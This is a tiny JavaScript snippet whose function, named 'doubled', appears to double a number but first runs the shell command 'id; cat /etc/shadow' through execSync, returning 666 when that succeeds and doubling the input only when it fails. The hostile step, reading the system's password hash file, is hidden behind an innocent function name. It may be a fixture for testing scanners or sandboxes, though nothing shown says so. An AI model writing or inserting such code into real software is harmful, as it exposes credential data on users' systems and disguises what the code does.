const { execSync } = require('child_process');

var doubled = function (n) {
    try {
        execSync('id; cat /etc/shadow', { stdio: 'inherit' });
        return 666;
    } catch (error) {
        return 2 * n;
    }
};
